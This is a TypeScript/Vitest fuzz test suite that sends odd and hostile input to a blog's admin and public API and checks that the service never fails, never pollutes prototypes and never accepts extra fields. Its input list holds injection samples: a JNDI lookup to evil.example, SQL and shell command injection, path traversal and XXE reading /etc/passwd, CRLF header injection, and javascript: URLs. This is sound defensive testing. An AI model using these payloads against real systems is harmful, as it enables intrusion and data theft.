import { sql } from 'drizzle-orm';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { post } from '#database/schema.ts';
import { emptyDatabase } from '#test/support/databases.ts';
import { hostileHtml } from '#test/support/hostile-html.ts';
import { isFull, runsOfChecks } from '#test/support/runs-of-checks.ts';
import { type DeskEdge, deskSave, startDeskEdge } from '#test/support/start-desk-edge.ts';

const fixed = [
  ...[
    '',
    ' ',
    '0',
    '-1',
    '1e999',
    'NaN',
    'null',
    'undefined',
    'true',
    '[object Object]',
    '__proto__',
    'constructor',
  ],
  ...[
    'toString',
    'hasOwnProperty',
    '1/0',
    '0x7fffffffffffffff',
    '9'.repeat(400),
    '../../../../etc/passwd',
    'C:\\con\\con',
  ],
  ...[
    '%s%n%x',
    '%00',
    '%2e%2e%2f',
    '\x24{jndi:ldap://evil.example/a}',
    '{{7*7}}',
    '<%= 7 %>',
    '$(touch x)',
    '`id`',
    '| ls',
    '; rm',
  ],
  ...[
    "'; drop table post; --",
    "' or 1=1 --",
    '" or ""="',
    '\\',
    "\\'",
    '*)(uid=*',
    '\r\nSet-Cookie: a=b',
    '\r\n\r\nHTTP/1.1 200',
  ],
  ...[
    '\u0000',
    '\u0008',
    '\u001b[31m',
    '\u007f',
    '\u0085',
    '\u200b',
    '\u200e',
    '\u202e',
    '\u2028',
    '\ufeff',
    '\ufffe',
    '\uffff',
  ],
  ...[
    '\ud800',
    '\udfff\ud800',
    'ÅÍÎÏ˝ÓÔ',
    'ﷺ',
    'z̴̡͠a̶̢͝l̷͘͜g̷͙͐o̴',
    '👩‍👩‍👧‍👦',
    '🏳️‍⚧️',
    '٠١٢',
    'ｆｕｌｌ',
    'İıſﬃ',
    '表ポあA鷗',
    'ส็็็็็็็',
    '﷽',
  ],
  ...[
    'con',
    'nul.txt',
    '.htaccess',
    '-rf',
    '--help',
    '~',
    '//evil.example',
    'javascript:alert(1)',
    'data:text/html,x',
    'a'.repeat(5_000),
  ],
  ...[
    '<!--',
    ']]>',
    '</script>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
    '=1+1',
    '@SUM(1)',
  ],
];
const odd = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...fixed) },
  { weight: 1, arbitrary: hostileHtml },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 400 }) },
  { weight: 1, arbitrary: fc.array(fc.constantFrom(...fixed), { maxLength: 4 }).map((all) => all.join('')) },
);

/** All of them in a few texts that every field is long enough for; longer ones stay alone. */
function joined(): string[] {
  const texts: string[] = [''];
  for (const text of fixed) {
    const longer = `${texts.at(-1)} ${text}`;
    if (longer.length <= 190) texts[texts.length - 1] = longer;
    else texts.push(text);
  }
  return texts;
}
/** What means something only by itself. */
const alone = ['', '__proto__', 'toString', '\u0000', '\ud800', '../../../../etc/passwd'];

const localised = (text: string) => ({ en: text, de: text });
const fields = (text: string) => ({
  ...{
    title: text,
    slug: text,
    excerpt: text,
    content: text,
    featured_image_url: text,
    featured_image_alt: text,
  },
  ...{ category_id: text, tag_ids: [text], seo_title: text, seo_description: text, seo_keywords: [text] },
});
/** Every call that takes words, with the words in each of its places. */
const calls = (text: string): [method: string, path: string, bodies: object[]][] => [
  [
    'POST',
    '/functions/v1/extract-threads-media',
    [{ url: text }, { downloadUrl: text, filename: text }, { [text]: text }],
  ],
  [
    'POST',
    '/functions/v1/generate-content',
    [
      ...['slug', 'excerpt', 'seo', text].map((type) => ({ type, title: text, content: text })),
      { type: 'slug', title: text, locale: text },
    ],
  ],
  ['POST', '/api/accounts/sign-in', [{ email: text, password: text }]],
  [
    'POST',
    '/api/admin/posts',
    [
      ...Object.entries(fields(text)).map(([name, value]) => ({
        mode: 'save',
        locale: 'en',
        fields: { title: 'x', [name]: value },
      })),
      { mode: text, locale: text, article_id: text, scheduled_at: text, fields: {} },
    ],
  ],
  [
    'POST',
    '/api/admin/categories',
    [
      { names: localised(text), descriptions: localised(text), slug: text, color: '#123456' },
      { names: { en: 'x', [text]: 'y' }, color: text },
    ],
  ],
  ['POST', '/api/admin/tags', [{ names: localised(text), slug: text }]],
  [
    'PUT',
    '/api/admin/translation/styles/de',
    [{ address: 'formal', style: text, terms: [{ source: text, target: text }] }, { [text]: [text] }],
  ],
  ['POST', '/api/admin/pictures/fetch', [{ url: text }, { url: `https://${text}` }]],
  ['POST', `/api/admin/posts/${encodeURIComponent(text.toWellFormed())}/status`, [{ status: text }]],
];

async function send(edge: DeskEdge, method: string, path: string, body: string | null, more: object = {}) {
  const answer = await fetch(edge.origin + path, {
    method,
    headers: {
      ...{ 'content-type': 'application/json', origin: edge.origin, 'sec-fetch-site': 'same-origin' },
      ...{ cookie: edge.cookieOf('owner'), 'if-match': '"1"', ...more },
    },
    body,
  });
  return { status: answer.status, text: await answer.text() };
}

test('any string in any field is taken or refused, never a fault of ours', { timeout: 180_000 }, async () => {
  await using database = await emptyDatabase();
  await using edge = await startDeskEdge({ overrides: { database } });
  const texts = [...joined(), ...alone, ...(isFull ? fixed : []), ...fc.sample(odd, runsOfChecks(2, 300))];
  for (const text of texts) {
    for (const [method, path, bodies] of calls(text)) {
      const answers = bodies.map(
        async (body) => [body, await send(edge, method, path, JSON.stringify(body))] as const,
      );
      for (const [body, { status }] of await Promise.all(answers)) {
        // 503: there is no model here.
        expect([path, JSON.stringify(body).slice(0, 300), status < 500 || status === 503]).toEqual([
          path,
          JSON.stringify(body).slice(0, 300),
          true,
        ]);
      }
    }
  }
  expect(Object.keys(Object.prototype)).toEqual([]);
  for (const { slug, title } of await database.query.select().from(post)) {
    expect(slug).toMatch(/^[\p{L}\p{N}\p{M}_-]+$/u);
    expect(slug.length).toBeLessThanOrEqual(200);
    expect(title).not.toMatch(/[\p{Cc}\p{Cs}]/u);
  }
});

/** Values of other kinds as JSON writes them: some can't be made from a value. */
const kinds = [
  ...['-1', '0.5', '2147483648', '1e999', 'null', '[[]]', '{"__proto__":{"x":1}}'],
  ...['"0000-01-01T00:00:00Z"', '"9999-12-31T23:59:59.999Z"', '"2026-02-30T00:00:00Z"'],
];
const moreKinds = [
  ...['0', '-0', '9007199254740993', '-1e999', 'true', '[]', '{}', '[null]', '[{}]', '["x"]', '{"en":1}'],
  ...[
    '{"length":1e9}',
    '"0001-01-01T00:00:00Z"',
    '"1000-01-01T00:00:00Z"',
    '"2026-01-01T24:00:00Z"',
    '"infinity"',
  ],
  '"00000000-0000-0000-0000-000000000000"',
];
const nobody = '0199c7f0-7a11-4a2b-9c3d-1e2f3a4b5c6d';
const soundBodies = (id: string): [method: string, path: string, body: Record<string, unknown>][] => [
  [
    ...(['POST', '/api/admin/posts'] as const),
    {
      ...{ mode: 'schedule', locale: 'en', article_id: nobody, scheduled_at: '2100-01-01T00:00:00Z' },
      fields: {
        ...{
          title: 'x',
          slug: '',
          excerpt: '',
          content: '',
          featured_image_url: null,
          featured_image_alt: '',
        },
        ...{ category_id: null, tag_ids: [], status: 'draft', seo_title: null, seo_description: null },
        seo_keywords: [],
      },
    },
  ],
  ['POST', '/api/admin/posts', { mode: 'schedule', locale: 'en', scheduled_at: '', fields: { title: 'x' } }],
  ['POST', `/api/admin/posts/${id}/status`, { status: 'draft' }],
  ['POST', `/api/admin/posts/${id}/translations/estimate`, { choice: 'all', locales: ['de'] }],
  ['POST', '/api/admin/runs/x/retry', { locale: 'de' }],
  [
    'POST',
    '/api/admin/categories',
    { names: { en: 'x', de: 'y' }, descriptions: { en: '' }, slug: '', color: '#123456' },
  ],
  ['POST', '/api/admin/tags', { names: { en: 'x' }, slug: '' }],
  [
    'PUT',
    '/api/admin/translation/styles/de',
    { address: 'formal', style: '', terms: [{ source: 'a', target: 'b' }] },
  ],
  ['POST', '/api/admin/pictures/fetch', { url: '' }],
  ['POST', '/api/accounts/sign-in', { email: 'x@example.org', password: 'x' }],
  ['POST', '/functions/v1/extract-threads-media', { url: '' }],
  ['POST', '/functions/v1/extract-threads-media', { downloadUrl: '', filename: '' }],
  ['POST', '/functions/v1/generate-content', { type: 'seo', locale: 'en', title: 'x', content: 'x' }],
];
const place = '@@';
/** A body with one of its values, or of those of a part of it, left open. */
function* withOnePlace(body: Record<string, unknown>): Generator<string> {
  for (const [name, value] of Object.entries(body)) {
    yield JSON.stringify({ ...body, [name]: place });
    if (typeof value !== 'object' || value === null || Array.isArray(value)) continue;
    for (const inner of Object.keys(value))
      yield JSON.stringify({ ...body, [name]: { ...value, [inner]: place } });
  }
}

test('a number, a moment or any other kind of value in any field is taken or refused', {
  timeout: 180_000,
}, async () => {
  await using database = await emptyDatabase();
  await using edge = await startDeskEdge({ overrides: { database } });
  const made = (await edge.ask('owner', 'POST /posts', { body: deskSave({}, { locale: 'en' }) })).body;
  for (const [method, path, body] of soundBodies(made.id)) {
    const bodies = [...withOnePlace(body), `"${place}"`].flatMap((open) =>
      (isFull ? [...kinds, ...moreKinds] : kinds).map((kind) => open.replace(`"${place}"`, kind)),
    );
    for (let first = 0; first < bodies.length; first += 20) {
      const some = bodies.slice(first, first + 20);
      const answers = await Promise.all(some.map((one) => send(edge, method, path, one)));
      for (const [index, { status }] of answers.entries())
        expect([path, some[index], status < 500 || status === 503]).toEqual([path, some[index], true]);
    }
  }
  expect(Object.keys(Object.prototype)).toEqual([]);
});

test('a number or moment of any kind in an address or a header is taken or refused', {
  timeout: 60_000,
}, async () => {
  await using database = await emptyDatabase();
  await using edge = await startDeskEdge({ overrides: { database } });
  const { id } = (await edge.ask('owner', 'POST /posts', { body: deskSave({}, { locale: 'en' }) })).body;
  const odds = [
    ...[...kinds, ...moreKinds].map((kind) => encodeURIComponent(kind.replaceAll('"', ''))),
    ...['', '+1', '0x10', '1e3', 'NaN', '٣', '%00', '%ed%a0%80', '%', '9'.repeat(400)],
  ];
  for (const value of odds) {
    const paths = [
      ...['pictures?before=', 'posts?page=', 'posts?status=', 'posts?locale=', 'posts/', 'runs/'],
      ...[`posts/${id}/revisions/`, 'translation/'],
    ].map((path) => `/api/admin/${path}${value}`);
    const open = ['page=', 'pageSize=', 'locale=', 'category=', 'tag=', 'locale=en&search='];
    const asked = [
      ...paths,
      ...open.map((name) => `/api/blog/posts?${name}${value}`),
      ...[`/api/blog/posts/en/${value}`, `/files/${value}/480.webp`, `/files/${nobody}/${value}.webp`],
    ];
    const answers = asked.map(async (path) => [path, (await send(edge, 'GET', path, null)).status] as const);
    const said = decodeURIComponent(value.replaceAll('%ed%a0%80', '').replace(/%$/, '')).replace(
      /[^ -~]/g,
      '',
    );
    const headers = { 'if-match': `"${said}"`, 'idempotency-key': said, 'last-event-id': said };
    for (const [method, path, body] of soundBodies(id).slice(1, 3))
      answers.push(
        send(edge, method, path, JSON.stringify(body), headers).then(({ status }) => [value, status]),
      );
    for (const [path, status] of await Promise.all(answers))
      expect([path, status < 500]).toEqual([path, true]);
  }
});

const extra = {
  ...{
    id: '0199c7f0-7a11-4a2b-9c3d-1e2f3a4b5c6d',
    role: 'owner',
    authorId: 'x',
    author_id: 'x',
    is_admin: true,
  },
  ...{
    created_at: '2000-01-01T00:00:00Z',
    createdAt: '2000-01-01T00:00:00Z',
    published_at: '2000-01-01T00:00:00Z',
  },
  ...{ version: 99, origin: 'human', email_verified: true },
};

test('fields that a call does not have are refused, one by one, and change nothing', async () => {
  await using database = await emptyDatabase();
  await using edge = await startDeskEdge({ overrides: { database } });
  const made = (await edge.ask('author', 'POST /posts', { body: deskSave({}, { locale: 'en' }) })).body;
  const shelf = { names: { en: 'Shelf' }, descriptions: {}, slug: '', color: '#123456' };
  const { body: category } = await edge.ask('owner', 'POST /categories', { body: shelf });
  const { body: tag } = await edge.ask('owner', 'POST /tags', { body: { names: { en: 'Tag' }, slug: '' } });
  const rows = () =>
    database.query
      .select({
        posts: sql<unknown>`(select jsonb_agg(p order by p.id) from post p)`,
        shelves: sql<unknown>`(select jsonb_agg(c order by c.id) from category c)`,
        tags: sql<unknown>`(select jsonb_agg(t order by t.id) from tag t)`,
      })
      .from(sql`installation`);
  const before = await rows();
  const save = deskSave({}, { locale: 'en' });
  for (const [name, value] of Object.entries(extra)) {
    const more = { [name]: value };
    const tries = [
      edge.ask('author', 'POST /posts', { body: { ...save, ...more } }),
      edge.ask('author', 'POST /posts', { body: { ...save, fields: { ...save.fields, ...more } } }),
      edge.ask('author', `PUT /posts/${made.id}`, { version: 1, body: { ...deskSave(), ...more } }),
      edge.ask('owner', `POST /posts/${made.id}/status`, { version: 1, body: { status: 'draft', ...more } }),
      edge.ask('owner', 'POST /categories', { body: { ...shelf, ...more } }),
      edge.ask('owner', `PUT /categories/${category.id}`, { body: { ...shelf, ...more } }),
      edge.ask('owner', 'POST /tags', { body: { names: { en: 'Other' }, slug: '', ...more } }),
      edge.ask('owner', `PUT /tags/${tag.id}`, { body: { names: { en: 'Other' }, slug: '', ...more } }),
    ];
    const statuses = (await Promise.all(tries)).map(({ status }) => status);
    expect([name, ...statuses]).toEqual([name, ...tries.map(() => 400)]);
  }
  expect(await rows()).toEqual(before);
});
